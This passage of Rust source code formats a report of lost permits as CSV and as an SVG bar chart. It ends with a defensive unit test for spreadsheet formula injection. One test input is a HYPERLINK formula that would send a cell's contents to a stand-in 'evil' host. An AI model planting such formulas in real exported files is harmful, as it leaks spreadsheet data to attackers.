    } else {
        v.to_string()
    };
    if v.contains([',', '"', '\n']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v
    }
}

/// The header of the CSV of lost permits.
pub const CSV_HEADER: &str = "owner,resource,subject,party,action,rests_on,restoring_packages,grantors";

/// The lost permits as CSV, one row each.
pub fn to_csv(r: &Report) -> String {
    let mut s = format!("{CSV_HEADER}\n");
    for l in &r.lost {
        s.push_str(&csv_row(l));
    }
    s
}

/// One lost permit as a CSV line (with its newline).
pub fn csv_row(l: &LostPermit) -> String {
    let mut s = String::new();
    {
        let row = [
            l.owner.clone(),
            l.resource.clone(),
            l.subject.clone(),
            l.party.clone(),
            l.action.clone(),
            l.rests_on.join(" | "),
            l.restoring_packages.join(" "),
            l.grantors.join(" "),
        ];
        let _ = writeln!(
            s,
            "{}",
            row.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(",")
        );
    }
    s
}

fn xml_escape(v: &str) -> String {
    v.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A horizontal stacked bar chart per resource: kept, lost but restorable by one grant,
/// lost with no single-grant fix.
pub fn to_svg(r: &Report) -> String {
    let rows = &r.resources;
    let max = rows.iter().map(|x| x.kept + x.lost).max().unwrap_or(0).max(1) as f64;
    let (left, width, bar, gap, top) = (260.0, 560.0, 22.0, 10.0, 60.0);
    let height = top + rows.len() as f64 * (bar + gap) + 50.0;
    let mut s = String::new();
    let _ = writeln!(
        s,
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{height}" font-family="sans-serif" font-size="12">"#,
        w = left + width + 120.0
    );
    let _ = writeln!(
        s,
        r#"<text x="10" y="22" font-size="16" font-weight="bold">Altinn 2 cut-off: permits per resource ({} lost, {} kept)</text>"#,
        r.total_lost(),
        r.total_kept()
    );
    let legend = [
        ("#4c9a2a", "kept"),
        ("#e8a33d", "lost, restorable by one grant"),
        ("#c0392b", "lost"),
    ];
    for (i, (colour, label)) in legend.iter().enumerate() {
        let x = 10.0 + i as f64 * 220.0;
        let _ = writeln!(
            s,
            r#"<rect x="{x}" y="32" width="12" height="12" fill="{colour}"/><text x="{}" y="42">{label}</text>"#,
            x + 16.0
        );
    }
    for (i, row) in rows.iter().enumerate() {
        let y = top + i as f64 * (bar + gap);
        let _ = writeln!(
            s,
            r#"<text x="{}" y="{}" text-anchor="end">{} / {}</text>"#,
            left - 8.0,
            y + bar * 0.7,
            xml_escape(&row.owner),
            xml_escape(&row.resource)
        );
        let restorable = row.restorable_by_one_grant as f64;
        let hard = (row.lost - row.restorable_by_one_grant) as f64;
        let mut x = left;
        for (n, colour) in [
            (row.kept as f64, "#4c9a2a"),
            (restorable, "#e8a33d"),
            (hard, "#c0392b"),
        ] {
            let w = n / max * width;
            if w > 0.0 {
                let _ = writeln!(
                    s,
                    r#"<rect x="{x:.1}" y="{y}" width="{w:.1}" height="{bar}" fill="{colour}"/>"#
                );
            }
            x += w;
        }
        let _ = writeln!(
            s,
            r#"<text x="{:.1}" y="{}">{} kept, {} lost</text>"#,
            x + 6.0,
            y + bar * 0.7,
            row.kept,
            row.lost
        );
    }
    s.push_str("</svg>\n");
    s
}

#[cfg(test)]
mod csv_tests {
    use super::csv_field;

    /// A party id (any printable text an import may bring) must not become a formula in
    /// the spreadsheet that opens the report's CSV.
    #[test]
    fn a_field_a_spreadsheet_would_run_as_a_formula_is_shown_as_text() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil/?\"&A1),\"x"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1),\"\"x\""
        );
        for f in ["+1", "-1", "@SUM(A1)", "=1"] {
            assert_eq!(csv_field(f), format!("'{f}"));
        }
        assert_eq!(csv_field("org-001"), "org-001");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
    }
}
